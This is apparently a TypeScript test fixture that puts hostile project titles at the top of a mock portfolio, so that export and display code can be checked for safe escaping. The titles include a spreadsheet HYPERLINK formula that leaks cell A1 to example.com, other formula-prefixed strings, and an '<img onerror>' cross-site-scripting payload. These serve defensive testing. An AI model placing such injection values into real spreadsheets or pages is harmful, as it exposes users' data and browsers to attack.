import { PROJECT_ID_PREFIX } from '@/domain/codes/project-types';
import type { MockPortfolio, MockRecord } from './portfolio';

/**
 * Titles that a spreadsheet would run as formulas (`= + - @` first) and one that a careless page
 * would run as HTML. The records are otherwise valid, so they are shown and exported like any
 * other project: what matters is how the text comes out.
 */
export const HOSTILE_TITLES = [
  '=HYPERLINK("https://example.com/?leak="&A1,"Project details")',
  '+1+1 Cross-border health screening',
  '-2+3 Community-based reintegration pilot',
  '@SUM(A1:A10) Labour migration survey',
  '<img src=x onerror=alert(1)> Border management training',
] as const;

/** Valid projects copied from `valid`, one per hostile title, with their own IDs (`<prefix>.99nn`). */
export function hostileRecords(valid: MockRecord): MockRecord[] {
  const type = String(valid.type) as keyof typeof PROJECT_ID_PREFIX;
  const prefix = PROJECT_ID_PREFIX[type] ?? 'OT';
  return HOSTILE_TITLES.map((title, i) => {
    const n = String(i + 1).padStart(2, '0');
    return { ...valid, id: `${prefix}.99${n}`, primaId: `XX99H00${n}`, title };
  });
}

const cache = new WeakMap<MockPortfolio, MockPortfolio>();

/** The portfolio with the hostile projects first, so that they show at the top of an unsorted table. */
export function withHostileRecords(portfolio: MockPortfolio): MockPortfolio {
  const cached = cache.get(portfolio);
  if (cached) return cached;
  const [first] = portfolio.projects;
  const projects = first ? [...hostileRecords(first), ...portfolio.projects] : [];
  const result = {
    ...portfolio,
    projects,
    meta: { ...portfolio.meta, projectCount: projects.length },
  };
  cache.set(portfolio, result);
  return result;
}
